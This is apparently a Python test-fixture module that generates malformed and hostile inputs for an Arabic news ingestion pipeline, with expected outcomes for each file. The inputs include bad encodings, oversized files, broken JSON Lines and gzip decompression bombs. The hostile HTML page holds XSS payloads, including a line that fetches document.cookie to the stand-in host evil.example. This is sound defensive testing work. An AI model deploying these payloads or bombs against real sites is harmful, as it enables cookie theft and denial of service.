"""The bad-input corpus, generated into a folder at test time (no tests here).

Every file is built from code, never committed: a 50 MB article and a gzip
bomb have no place in git.  `build_corpus(folder)` writes the files and
returns a list of `Case`s saying what each file must give: a result whose
text equals a known good article (`good`), or an error whose message
contains one of the listed words (`error`).  JSON Lines files list one
expectation per article, in order.

The good articles are real Arabic news text: the seed article and, when the
shared news corpus is present, a few of its articles (so a failure is never
about a toy sentence).
"""

from __future__ import annotations

import gzip
import html
import json
import os
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
SHARED = Path(os.environ.get("HADATH_SHARED", REPO.parent / "shared"))
SEED = SHARED / "seed" / "kadhimi-drone-attack.txt"
NEWS = SHARED / "data" / "news" / "saudinewsnet_conflict.jsonl.gz"

MB = 1024 * 1024
HUGE_BYTES = 50 * MB
BOMB_BYTES = 1024 * MB  # decompressed size of the gzip bomb

ENGLISH = (
    "Armed drones attacked the residence of the Iraqi prime minister in Baghdad's Green Zone "
    "early on Sunday, wounding several of his guards, officials said. The prime minister was "
    "unharmed and appeared on television shortly afterwards, calling for calm and dialogue. "
    "No group immediately claimed responsibility for the attack, which followed weeks of "
    "tension over the results of the October parliamentary elections.\n"
)
FRENCH = (
    "Des drones armés ont attaqué dimanche à l'aube la résidence du Premier ministre irakien "
    "dans la Zone verte de Bagdad, blessant plusieurs gardes, selon des responsables. Le "
    "Premier ministre est sorti indemne et a appelé au calme et au dialogue. L'attaque n'a "
    "pas été revendiquée dans l'immédiat ; elle survient après des semaines de tensions "
    "autour des résultats des élections législatives d'octobre.\n"
)


@dataclass
class Good:
    """An article that must come through with exactly this title and text."""

    title: str | None
    text: str


@dataclass
class Bad:
    """An article that must give an error mentioning one of these words."""

    words: tuple[str, ...]


Expect = Good | Bad


@dataclass
class Case:
    name: str  # file name inside the corpus folder
    expect: list[Expect] = field(default_factory=list)  # one per output object, in order
    text_free_of: tuple[str, ...] = ()  # substrings no output text may contain
    # Either the error in `expect`, or a result whose text contains this.
    or_text: str | None = None


def good_articles(n_news: int = 3) -> list[Good]:
    """The seed article and up to `n_news` real news articles (title, body)."""
    raw = SEED.read_text(encoding="utf-8")
    title, body = raw.split("\n", 1)
    out = [Good(title.strip(), body)]
    if NEWS.exists():
        with gzip.open(NEWS, "rt", encoding="utf-8") as fh:
            for line in fh:
                if len(out) > n_news:
                    break
                obj = json.loads(line)
                text = obj["text"].strip()
                if len(text) > 400 and "\x00" not in text:
                    out.append(Good(" ".join((obj.get("title") or "").split()) or None, text))
    return out


def _txt(g: Good) -> str:
    """A .txt file: the title line, then the body."""
    return f"{g.title}\n{g.text}"


def _hostile_html(g: Good, depth: int) -> str:
    """An article page with scripts, event handlers, javascript: links and deep nesting."""
    paras = "".join(f"<p onclick=\"alert('p')\">{html.escape(line)}</p>\n"
                    for line in g.text.split("\n") if line.strip())
    nest_open = "<div><span>" * depth
    nest_close = "</span></div>" * depth
    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f"<title>{html.escape(g.title or '')}</title>"
        "<script>window.pwned = 1; alert('xss-head')</script>"
        "<style>body{background:url(javascript:alert('css'))}</style>"
        "</head><body onload=\"alert('xss-onload')\">"
        "<nav><a href=\"javascript:alert('nav')\">الرئيسية</a></nav>"
        f"<article><h1>{html.escape(g.title or '')}</h1>\n"
        "<img src=x onerror=\"alert('xss-onerror')\">"
        "<script type=module>fetch('//evil.example/'+document.cookie)</script>"
        "<svg><script>alert('xss-svg')</script></svg>"
        "<iframe src=\"javascript:alert('iframe')\"></iframe>"
        f"{paras}</article>"
        f"<aside>{nest_open}عمق{nest_close}</aside>"
        "<noscript><p>alert-noscript</p></noscript>"
        "</body></html>"
    )


def _gzip_bomb(path: Path, size: int, unit: bytes) -> None:
    """`size` bytes of `unit` repeated, as gzip at ~1000:1.

    One member compressing a megabyte, written size/1 MB times: a valid
    multi-member gzip file, built in milliseconds rather than compressing a
    gigabyte.
    """
    member = gzip.compress(unit * (MB // len(unit)), compresslevel=9)
    with open(path, "wb") as fh:
        for _ in range(size // MB):
            fh.write(member)


def build_corpus(folder: Path, *, huge: bool = True, bomb: bool = True) -> list[Case]:
    """Write every bad input into `folder`; what each must give, in file-name order."""
    folder.mkdir(parents=True, exist_ok=True)
    goods = good_articles()
    seed = goods[0]
    cases: list[Case] = []

    def write(name: str, data: bytes | str, *expect: Expect, free_of: tuple[str, ...] = ()) -> None:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        cases.append(Case(name, list(expect), free_of))

    empty = Bad(("empty",))
    write("01-empty.txt", b"", empty)
    write("02-whitespace.txt", " \n\t\r\n   \n\u00a0\u3000\n".encode(), empty)
    rnd = bytes((i * 2654435761 >> 7) & 0xFF for i in range(200_000))  # deterministic noise
    write("03-binary-nul.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rnd, Bad(("binary",)))
    no_nul = bytes(b if b else 1 for b in rnd)
    write("04-binary-no-nul.txt", no_nul, Bad(("binary", "undecodable", "not Arabic", "no letters")))
    # Cut inside the last character (Arabic letters are two bytes in UTF-8):
    # a download interrupted mid-character.
    full = _txt(seed).encode("utf-8")
    cut = full.rstrip(b"\n.")[:-1]
    assert cut[-1] >= 0xC0  # a lead byte without its continuation
    write("05-truncated-utf8.txt", cut,
          Good(seed.title, cut.decode("utf-8", errors="ignore").split("\n", 1)[1]))
    write("06-windows-1256.txt", _txt(seed).encode("windows-1256"), Good(seed.title, seed.text))
    write("07-utf16-le-bom.txt", _txt(seed).encode("utf-16"), Good(seed.title, seed.text))
    write("08-utf16-be-bom.txt", b"\xfe\xff" + _txt(seed).encode("utf-16-be"),
          Good(seed.title, seed.text))
    write("09-utf16-le-nobom.txt", _txt(seed).encode("utf-16-le"), Good(seed.title, seed.text))
    write("10-utf16-be-nobom.txt", _txt(seed).encode("utf-16-be"), Good(seed.title, seed.text))
    write("11-english.txt", "Drones attack Baghdad\n" + ENGLISH * 4, Bad(("not Arabic",)))
    write("12-french.txt", "Des drones attaquent Bagdad\n" + FRENCH * 4, Bad(("not Arabic",)))
    if huge:
        # 50 MB of real Arabic text: refused by size, never read whole.
        path = folder / "13-huge-50mb.txt"
        chunk = (seed.text + "\n").encode("utf-8")
        with open(path, "wb") as fh:
            fh.write((seed.title or "").encode() + b"\n")
            for _ in range(HUGE_BYTES // len(chunk) + 1):
                fh.write(chunk)
        cases.append(Case(path.name, [Bad(("larger than", "too long"))]))

    # JSON Lines: good and bad lines interleaved; every line gives one object
    # (blank lines none), in order.
    lines: list[bytes] = []
    expect: list[Expect] = []

    def line(data: bytes, exp: Expect | None) -> None:
        lines.append(data)
        if exp is not None:
            expect.append(exp)

    def obj(g: Good, **extra: object) -> bytes:
        return json.dumps({"title": g.title, "text": g.text, **extra}, ensure_ascii=False).encode()

    line(obj(goods[1 % len(goods)], id="good-1", date="2021-11-07"), goods[1 % len(goods)])
    line(b'{"id": "broken", "text": "\xd8\xa8\xd8\xba\xd8\xaf', Bad(("malformed",)))
    line(b"", None)
    line(b"[1, 2, 3]", Bad(("not an object",)))
    line(b'"just a string"', Bad(("not an object",)))
    line(b"42", Bad(("not an object",)))
    line(b"null", Bad(("not an object",)))
    line(b'{"id": "no-text", "title": "x"}', Bad(("text",)))
    line(b'{"id": "text-not-string", "text": ["a"]}', Bad(("text",)))
    line(b'{"id": "bad-bytes", "text": "\xff\xfe\x00"}', Bad(("malformed",)))
    line(obj(Good("خبر", "   "), id="blank-text"), Bad(("empty",)))
    line(obj(Good("English", ENGLISH), id="english"), Bad(("not Arabic",)))
    line(b"   \t  ", None)
    line(obj(goods[2 % len(goods)], id="good-2"), goods[2 % len(goods)])
    if huge:
        over = b'{"id": "over-long", "text": "' + "ب".encode() * (9 * MB) + b'"}'
        line(over, Bad(("longer than",)))
    # A JSON "\u0000" inside a word and as a token of its own: read as U+FFFD
    # (same length), so the article is kept and PostgreSQL can store it.
    nul = Good("خبر\x00", seed.text.replace("بغداد", "بغ\x00داد", 1).replace(" ", " \x00 ", 1))
    line(obj(nul, id="nul-chars"), Good("خبر\ufffd", nul.text.replace("\x00", "\ufffd")))
    line(obj(goods[3 % len(goods)], id="good-3", date="not a date", source=123),
         goods[3 % len(goods)])
    line(obj(seed, id="good-seed"), seed)
    write("14-mixed.jsonl", b"\n".join(lines) + b"\n", *expect)

    # The same lines again, gzip-compressed, with a missing final newline;
    # without the over-long line, whose 9 MB of one letter compress like a
    # bomb (and are refused as one: see 18-20).
    gz_lines = [x for x in lines if len(x) < MB]
    gz_expect = [e for e in expect if not (isinstance(e, Bad) and e.words == ("longer than",))]
    with gzip.open(folder / "15-mixed.jsonl.gz", "wb") as fh:
        fh.write(b"\n".join(gz_lines))
    cases.append(Case("15-mixed.jsonl.gz", gz_expect))

    hostile = _hostile_html(seed, depth=5000)
    write("16-hostile.html", hostile, Good(seed.title, "\n".join(
        line for line in seed.text.split("\n") if line.strip())),
        free_of=("alert", "<script", "onerror", "pwned", "javascript:", "evil.example"))
    deep = "<html><body>" + "<div>" * 200_000 + "<p>نص عربي قصير</p>" + "</div>" * 200_000
    # 200,000 nested elements: a parser that recurses would overflow its stack.
    # The page either fails cleanly or keeps its one paragraph.
    write("17-deep-nesting.html", deep + "</body></html>",
          Bad(("empty", "no letters", "not Arabic", "too deep", "nest")))
    cases[-1].or_text = "نص عربي قصير"

    if bomb:
        _gzip_bomb(folder / "18-bomb.jsonl.gz", BOMB_BYTES, b"\x00")
        cases.append(Case("18-bomb.jsonl.gz", [Bad(("gzip", "compression", "longer than"))]))
        _gzip_bomb(folder / "19-bomb-lines.jsonl.gz", BOMB_BYTES // 4, b"\n")
        cases.append(Case("19-bomb-lines.jsonl.gz", [Bad(("gzip", "compression"))]))
        _gzip_bomb(folder / "20-bomb.txt.gz", BOMB_BYTES, "ب".encode())
        cases.append(Case("20-bomb.txt.gz", [Bad(("larger than", "gzip", "compression"))]))
    # A good plain article last: everything before it must not stop the batch.
    write("21-good.txt", _txt(seed), Good(seed.title, seed.text))
    return cases
